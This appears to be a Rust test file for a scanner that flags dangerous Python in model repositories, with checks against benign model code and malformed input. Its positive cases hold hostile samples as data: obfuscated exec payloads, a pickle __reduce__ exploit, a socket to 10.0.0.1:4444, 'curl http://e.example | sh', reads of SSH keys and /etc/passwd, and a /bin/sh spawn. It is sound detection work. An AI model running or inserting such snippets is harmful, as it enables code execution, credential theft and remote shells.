//! Source and expressions that do something outside, and their honest neighbours.

use domain::Severity;

use super::{Judge, Place, Seen};

fn judged(source: &str, place: Place) -> Vec<Seen> {
    let mut judge = Judge::new(place);
    judge.source(source);
    judge.seen.into_iter().filter(|s| s.severity >= Severity::Medium).collect()
}

#[test]
fn dangerous_source_is_found() {
    for source in [
        "import os\nos.system('id')",
        "import os as o; o.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "import subprocess\nsubprocess.Popen(['id'])",
        "class A:\n    def f(self):\n        import subprocess\n        subprocess.run('id', shell=True)",
        "__import__('os').system('id')",
        "__import__('subprocess').check_output('id')",
        "getattr(__import__('os'), 'sys' + 'tem')('id')",
        "import importlib\nimportlib.import_module('os').popen('id')",
        "import sys\nsys.modules['os'].system('id')",
        "globals()['__builtins__']['eval']('__import__(\"os\").system(\"id\")')",
        "__builtins__.__dict__['exec']('import os; os.system(1)')",
        "exec(open_it())",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))",
        "import base64, zlib\nexec(zlib.decompress(base64.b64decode(blob)))",
        "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))\nexec(''.join(chr(c) for c in [112,114,105,110,116]))\neval(x)",
        "exec('import os; os.system(\"id\")')",
        "exec(bytes.fromhex('6f732e73797374656d28276964272900'))",
        "import marshal\nexec(marshal.loads(data))",
        "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))",
        "import urllib.request\nexec(urllib.request.urlopen('http://e.example/x').read())",
        "import requests\nrequests.get('http://e.example/x')",
        "import requests\ndef handle(data, ctx):\n    requests.post('http://e.example', json=data)\n    return data",
        "import socket\ndef initialize(self):\n    s = socket.socket()\n    s.connect(('10.0.0.1', 4444))",
        "import pickle, base64\npickle.loads(base64.b64decode('gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))",
        "class E:\n    def __reduce__(self):\n        import os\n        return (os.system, ('id',))",
        "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
        "list(map(__import__('os').system, ['id']))",
        "def f(x=__import__('os').system('id')): pass",
        "@__import__('os').system\ndef f(): pass",
        "if True: import os; os.system('id')",
        "try:\n    import os\n    os.popen('id')\nexcept Exception:\n    pass",
        "with open('/home/u/.ssh/id_rsa') as f:\n    x = f.read()",
        "open('/etc/passwd').read()",
        "open('run.sh', 'w').write('x')",
        "import shutil\nshutil.rmtree('data')",
        "import ctypes\nctypes.CDLL('./x.so')",
        "import pty; pty.spawn('/bin/sh')",
        "f'{__import__(\"os\").system(\"id\")}'",
        "x = [__import__('os').system('id') for _ in range(1)]",
        "lambda: __import__('os').system('id')",
        "import os\nrun = os.system\nrun('id')",
        "import os\nd = {'a': os.system}\nd['a']('id')",
        "().__class__.__base__.__subclasses__()[1]",
        "import os\nos.execv('/bin/sh', ['sh'])",
        "import runpy\nrunpy.run_path('x.py')",
        "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
        "def handle(data, context):\n    return eval(data[0]['body'])",
        "import torch\ntorch.hub.load('a/b', 'c', trust_repo=True)",
        "def f(\n    a,\n):\n    import os\n    os.system('id')",
        "import os, sys\nif sys.platform == 'linux':\n    os.system('curl http://e.example | sh')",
    ] {
        assert!(!judged(source, Place::Source).is_empty(), "{source}");
    }
}

#[test]
fn ordinary_model_code_is_clean() {
    for source in [
        "import torch\nimport torch.nn as nn\n\nclass Net(nn.Module):\n    def __init__(self, n: int = 4):\n        super().__init__()\n        self.fc = nn.Linear(n, 2)\n\n    def forward(self, x):\n        return self.fc(x)\n",
        "from transformers import PreTrainedModel\nfrom .configuration_x import XConfig\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n    @classmethod\n    def load(cls, path):\n        import os\n        state = torch.load(os.path.join(path, 'w.bin'), map_location='cpu')\n        return state",
        "import os\nimport json\nwith open(os.path.join(os.path.dirname(__file__), 'config.json')) as f:\n    CONFIG = json.load(f)",
        "import importlib\nif importlib.util.find_spec('flash_attn') is not None:\n    from flash_attn import flash_attn_func",
        "def save_vocabulary(self, d):\n    with open(os.path.join(d, 'v.json'), 'w', encoding='utf-8') as f:\n        f.write(json.dumps(self.v))",
        "model.eval()\nmodel.compile(optimizer='adam')\nx = torch.compile(model)",
        "import re\nPAT = re.compile(r'a|b')\n",
        "import base64\nfrom io import BytesIO\ndef image(x):\n    return Image.open(BytesIO(base64.b64decode(x)))",
        "import requests\ndef load_image(url):\n    return Image.open(requests.get(url, stream=True).raw)",
        "import pickle\ndef load(p):\n    with open(p, 'rb') as f:\n        return pickle.load(f)",
        "import yaml\ndef load(p):\n    return yaml.safe_load(open(p))",
        "import yaml\nCFG = yaml.load(open('c.yaml'), Loader=yaml.SafeLoader)",
        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nos.makedirs('out', exist_ok=True)",
        "x = getattr(torch, 'float16')\ny = getattr(self, name)\nfn = getattr(F, act)",
        "logger = logging.get_logger(__name__)\nfor i, layer in enumerate(self.layers):\n    h = layer(h)[0]\n",
        "try:\n    import subprocess\nexcept ImportError:\n    subprocess = None\n",
        "class H(BaseHandler):\n    def initialize(self, ctx):\n        self.model = torch.jit.load(ctx.system_properties.get('model_dir') + '/m.pt')\n    def handle(self, data, ctx):\n        return self.postprocess(self.inference(self.preprocess(data)))",
        "import socket\nHOST = socket.gethostname()",
        "if __name__ == '__main__':\n    import argparse\n    p = argparse.ArgumentParser()\n    p.add_argument('--x', default=1)\n    main(p.parse_args())",
        "a: List[int] = [x ** 2 for x in range(10) if x % 2]\nb = {k: v for k, v in a}\nc = (lambda x, y=1: x + y)(1)\nd = a[1:-1, ..., None]\ne = x if y else z\nf, *g = h\nprint(f'{a!r:>10} {b[\"k\"]}')",
        "match x:\n    case 1:\n        pass\n    case _:\n        pass",
        "\"\"\"Use os.system('id') never.\"\"\"\n# os.system('x')\nTEXT = 'os.system(1)'\n",
        "def f(self, *args, **kwargs) -> Tuple[int, ...]:\n    return super().f(*args, **kwargs)",
        "self.__class__.__name__\ntype(self).__mro__",
        "from huggingface_hub import hf_hub_download\ndef g():\n    return hf_hub_download('a/b', 'c')",
        "import numpy as np\nW = np.load('w.npy')\n",
        "import pathlib\nROOT = pathlib.Path(__file__).parent\nDATA = (ROOT / 'x.json').read_text()",
        "import platform, sys\nprint(platform.system(), sys.version)",
        "def save(\n    self,\n    a: str | None = None,\n) -> tuple[str, ...]:\n    x = [\n        1,\n    ]\n    if a:\n        with open(\n            a, 'w'\n        ) as f:\n            f.write('x')\n    return x",
        "import subprocess\ndef gpus():\n    return subprocess.check_output(['nvidia-smi', '-L']).decode().strip()",
        "from setuptools import setup\nsetup(name='x', version='1', install_requires=['torch'])",
        "import mlflow\nclass M(mlflow.pyfunc.PythonModel):\n    def predict(self, context, model_input):\n        return self.m.predict(model_input)",
        "import torch\nkernel = torch.utils.checkpoint.checkpoint(fn, x)\nx = x.view(-1).system\n",
    ] {
        assert_eq!(judged(source, Place::Source), [], "{source}");
    }
}

#[test]
fn what_is_python_is_told_from_prose() {
    for source in [
        "import os\nos.system('id')\n",
        "class EvilModel: pass",
        "def f():\n    return 1\n",
        "#!/usr/bin/env python3\nx",
    ] {
        assert!(super::looks_like(source), "{source}");
    }
    for text in [
        "# Model\n\nThis model was trained on data from the hospital.\n",
        "import duties apply to this license\nand to all the others.\nOne.\nTwo.\n",
        "torch==2.1\nnumpy>=1.26\n",
        "key: value\nother: 1\n",
        "a,b,c\n1,2,3\n",
    ] {
        assert!(!super::looks_like(text), "{text}");
    }
}

#[test]
fn deep_and_broken_source_ends() {
    for source in [
        "(".repeat(100_000),
        "a.".repeat(100_000),
        "x = ".repeat(50_000),
        "if a: ".repeat(50_000),
        "\t".repeat(1000),
        "def ".repeat(1000),
        "f'{".repeat(2000),
        "'''".to_owned(),
        "lambda ".repeat(5000),
        "\\".to_owned(),
        "\\\n\u{e9}".to_owned(),
    ] {
        judged(&source, Place::Source);
    }
}
